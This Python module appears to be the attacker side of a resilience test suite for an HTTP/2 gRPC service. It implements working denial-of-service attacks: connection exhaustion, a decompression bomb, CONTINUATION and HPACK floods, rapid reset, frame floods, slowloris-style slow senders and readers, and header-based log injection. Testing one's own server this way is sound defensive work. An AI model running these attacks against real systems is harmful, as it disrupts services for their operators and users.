"""What hostile callers do, one function an attack: attack(target, seconds, size) -> what it saw.

Each keeps to its time. Its connections are open until it returns; an attack that is cut off by the
other end goes on with new connections, or says so. `size` is "short" or "long".
"""
import contextlib
import time
import zlib

import http2
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING,
                   RESET, SETTINGS, WINDOW_UPDATE, Connection, data, frame, headers, message)

SOFTWARE, INSURER, ADMINISTRATOR = "software-alpha-gp", "insurer-100", "administrator-dev"
MIB = 1 << 20
ROUND_S = 0.2


def count(size, short, long):
    return long if size == "long" else short


def open_many(stack, target, number, seconds, make):
    """Up to so many, in at most so long; those that the other end closes are not counted."""
    end, opened = time.monotonic() + seconds, []
    while len(opened) < number and time.monotonic() < end:
        with contextlib.suppress(OSError):
            opened.append(stack.enter_context(make()))
    return opened


def bare_connections(target, seconds, size):
    """TCP and nothing more, beyond the descriptors of the process."""
    with contextlib.ExitStack() as stack:
        opened = open_many(stack, target, 1100, seconds, target.tcp)
        time.sleep(1)
    return f"{len(opened)} opened"


def half_open_handshakes(target, seconds, size):
    """The first bytes of a TLS greeting, and then silence."""
    with contextlib.ExitStack() as stack:
        opened = open_many(stack, target, count(size, 200, 1000), seconds, target.tcp)
        for one in opened:
            with contextlib.suppress(OSError):
                one.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        time.sleep(count(size, 1, 12))
    return f"{len(opened)} opened"


def idle_strangers(target, seconds, size):
    """TLS with a good certificate, and no call."""
    with contextlib.ExitStack() as stack:
        opened = open_many(stack, target, count(size, 300, 5000), count(size, seconds, 60),
                           lambda: Connection(target, SOFTWARE))
        time.sleep(0.5)
    return f"{len(opened)} opened"


def idle_callers(target, seconds, size):
    """One call on each connection, and then nothing."""
    answered = 0
    with contextlib.ExitStack() as stack:
        for one in open_many(stack, target, count(size, 300, 5000), count(size, seconds, 60),
                             lambda: Connection(target, SOFTWARE)):
            with contextlib.suppress(OSError):
                one.call(http2.HEALTH)
                answered += 1
    return f"{answered} called once"


def repeat(target, identity, seconds, attack, settings=None):
    """Attacks with new connections until the time is over; how often one was cut off."""
    cut, sent, end = 0, 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with Connection(target, identity, settings, timeout=1).settle() as connection:
                for piece in attack(connection):
                    connection.send(piece)
                    sent += len(piece)
                    connection.read(0)
                    if time.monotonic() >= end:
                        break
        except OSError:
            cut += 1
    return f"{sent / MIB:.1f} MiB sent, cut off {cut} times"


def inflating_requests(target, seconds, size):
    """1 MiB of gzip that is a gigabyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(16 * MIB)) for _ in range(64)) + packer.flush()
    answers, end = set(), time.monotonic() + seconds
    for encoding in ("gzip", "deflate", "identity") * count(size, 1, 20):
        if time.monotonic() >= end:
            break
        with Connection(target, SOFTWARE) as connection:
            try:
                connection.send(headers(1, http2.SUBMIT, [("grpc-encoding", encoding)]))
                send_in_windows(connection, {1: message(packed, True)}, 0.5, end=True)
                told = connection.heard.get(1) or connection.answer(1, 0.5)
                answers.add((encoding, "refused" if b"grpc-status" in told else "?"))
            except OSError:
                answers.add((encoding, "no answer"))
    return ", ".join(f"{encoding} {answer}" for encoding, answer in sorted(answers))


def send_in_windows(connection, payloads, seconds, end=False):
    """Sends the data of streams as far as flow control lets it; the bytes sent."""
    sent, deadline = dict.fromkeys(payloads, 0), time.monotonic() + seconds
    while time.monotonic() < deadline:
        moved = False
        for stream, payload in payloads.items():
            at = sent[stream]
            room = min(connection.may_send(stream, at), len(payload) - at, http2.FRAME_BYTES_MAX)
            if room <= 0:
                continue
            last = end and at + room == len(payload)
            connection.send(frame(DATA, END_STREAM if last else 0, stream,
                                  payload[at:at + room]))
            connection.window -= room
            sent[stream] += room
            moved = True
        if all(sent[stream] == len(payload) for stream, payload in payloads.items()):
            break
        connection.read(0 if moved else 0.05)
    return sum(sent.values())


def messages_less_one_byte(target, seconds, size):
    """200 messages of 4 MiB that lack their last byte, as software and as an insurer's feeds."""
    payload = message(bytes(4 * MIB))[:-1]
    total, cut = 0, 0
    with contextlib.ExitStack() as stack:
        for identity, path in ((SOFTWARE, http2.SUBMIT), (INSURER, http2.FEED)):
            for _ in range(4):
                try:
                    connection = stack.enter_context(Connection(target, identity, timeout=1))
                    streams = {1 + 2 * i: payload for i in range(50)}
                    connection.send(*(headers(stream, path) for stream in streams))
                    total += send_in_windows(connection, streams, seconds / 8)
                except OSError:
                    cut += 1
    return f"{total / MIB:.1f} MiB sent, cut off {cut} times"


def endless_block(part):
    """A block of headers that goes on and on in CONTINUATION frames."""
    def attack(connection):
        yield frame(HEADERS, 0, 1, http2.header_block(http2.SUBMIT))
        while True:
            yield part
    return attack


def endless_headers(target, seconds, size):
    field = http2.literal("x-long", "y" * 1000)
    part = frame(CONTINUATION, 0, 1, field * (http2.FRAME_BYTES_MAX // len(field)))
    return repeat(target, SOFTWARE, seconds, endless_block(part))


def endless_string(target, seconds, size):
    """A value of a quarter gigabyte, announced and sent bit by bit."""
    def attack(connection):
        begin = http2.header_block(http2.SUBMIT) + b"\x00\x01x" + http2.integer(1 << 28, 7)
        yield frame(HEADERS, 0, 1, begin)
        while True:
            yield frame(CONTINUATION, 0, 1, b"y" * http2.FRAME_BYTES_MAX)
    return repeat(target, SOFTWARE, seconds, attack)


def endless_integer(target, seconds, size):
    """A length in HPACK that never ends, on two connections at 0.4 MB/s."""
    end, cut, sent = time.monotonic() + seconds, 0, 0
    with contextlib.ExitStack() as stack:
        connections = []
        while time.monotonic() < end:
            while len(connections) < 2 and time.monotonic() < end:
                with contextlib.suppress(OSError):
                    connection = stack.enter_context(Connection(target, SOFTWARE))
                    connection.call(http2.HEALTH)  # no stranger any more: has a larger part
                    connection.quiet = True
                    connection.send(frame(HEADERS, 0, 3, http2.header_block(http2.SUBMIT) +
                                          b"\x00\xff"))
                    connections.append(connection)
            for connection in list(connections):
                try:
                    connection.send(frame(CONTINUATION, 0, 3, b"\x80" * 8192))
                    connection.read(0)
                    sent += 8192
                except OSError:
                    cut += 1
                    connections.remove(connection)
            time.sleep(0.02)
    return f"{sent / MIB:.1f} MiB sent, cut off {cut} times"


def table_of_headers(target, seconds, size):
    """Fields that change HPACK's table all the time, in whole small blocks."""
    def attack(connection):
        for stream in range(1, 1 << 30, 2):
            fields = b"".join(b"\x40" + b"\x03k%02d" % (i % 100) + b"\x04" + b"%04d" % (
                (stream + i) % 10000) for i in range(100))
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream,
                        http2.header_block(http2.SUBMIT) + fields)
    return repeat(target, SOFTWARE, seconds, attack)


def rapid_reset(target, seconds, size):
    def attack(connection):
        for stream in range(1, 1 << 30, 40):
            yield b"".join(headers(stream + 2 * i, http2.SUBMIT) + frame(
                RESET, 0, stream + 2 * i, b"\0\0\0\x08") for i in range(20))
    return repeat(target, SOFTWARE, seconds, attack)


def floods(piece):
    def attack(target, seconds, size):
        def pieces(connection):
            connection.send(headers(1, http2.SUBMIT))
            while True:
                yield piece * 200
        return repeat(target, SOFTWARE, seconds, pieces)
    return attack


ping_flood = floods(frame(PING, 0, 0, b"12345678"))
settings_flood = floods(frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64"))
window_flood = floods(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"))
empty_data_flood = floods(frame(DATA, 0, 1))


def dear_strangers(target, seconds, size):
    """200 messages a second whose signature is dear to check, by a key that nobody vouches for."""
    payload = message(http2.submission(http2.dear_envelope()))
    answered, sent, begin = 0, 0, time.monotonic()
    with Connection(target, SOFTWARE) as connection:
        connection.call(http2.HEALTH)
        while time.monotonic() < begin + seconds:
            for _ in range(int((time.monotonic() - begin) * 200) - sent):
                stream = 3 + 2 * sent
                connection.send(headers(stream, http2.SUBMIT), data(stream, payload))
                sent += 1
            answered += sum(kind == HEADERS and bool(flags & END_STREAM)
                            for kind, flags, *_ in connection.read(0.005))
    return f"{sent} sent, {answered} answered"


def slow_senders(target, seconds, size):
    """One byte a second of a message, on many connections."""
    with contextlib.ExitStack() as stack:
        opened = open_many(stack, target, count(size, 100, 400), seconds / 2,
                           lambda: Connection(target, SOFTWARE))
        alive = list(opened)
        for one in opened:
            with contextlib.suppress(OSError):
                one.send(headers(1, http2.SUBMIT), data(1, message(bytes(5000))[:6], end=False))
        end = time.monotonic() + count(size, 2, 40)
        while time.monotonic() < end and alive:
            for one in list(alive):
                try:
                    one.send(data(1, b"\0", end=False))
                    one.read(0)
                except OSError:
                    alive.remove(one)
            time.sleep(1)
    return f"{len(opened)} opened, {len(alive)} left"


def slow_readers(target, seconds, size):
    """Calls and streams whose answers are never let out: a window of 0."""
    with contextlib.ExitStack() as stack:
        opened = []
        for identity, path, payload in ((SOFTWARE, http2.RECEIPT, b""),
                                        (SOFTWARE, http2.HEALTH, b""),
                                        (INSURER, http2.EVENTS, b"\x0a\x01s")):
            for _ in range(count(size, 10, 50)):
                with contextlib.suppress(OSError):
                    one = stack.enter_context(
                        Connection(target, identity, {INITIAL_WINDOW_SIZE: 0}))
                    one.send(*(headers(1 + 2 * i, path) + data(1 + 2 * i, message(payload))
                               for i in range(100)))
                    opened.append(one)
        time.sleep(count(size, 1, 40))
    return f"{len(opened)} opened"


def forged_lines(target, seconds, size):
    """Words that a library might print as they are."""
    forged = "x\nFORGED LOG LINE\n"
    shapes = [("grpc-timeout", forged), ("content-type", forged), ("te", forged),
              ("grpc-encoding", forged), ("user-agent", forged), (forged, "x"),
              ("grpc-status", forged), (":path", forged), ("grpc-tags-bin", forged)]
    # A string of protobuf that is no UTF-8.
    damaged = b"\x0a\x12\xff\xfe\nFORGED LOG LINE\n"

    def attack(connection):
        for i in range(1 << 20):
            name, value = shapes[i % len(shapes)]
            yield headers(1 + 4 * i, http2.SUBMIT, [(name, value)]) + data(1 + 4 * i, message(b""))
            yield headers(3 + 4 * i, http2.RECEIPT) + data(3 + 4 * i, message(damaged))
    return repeat(target, SOFTWARE, seconds, attack)
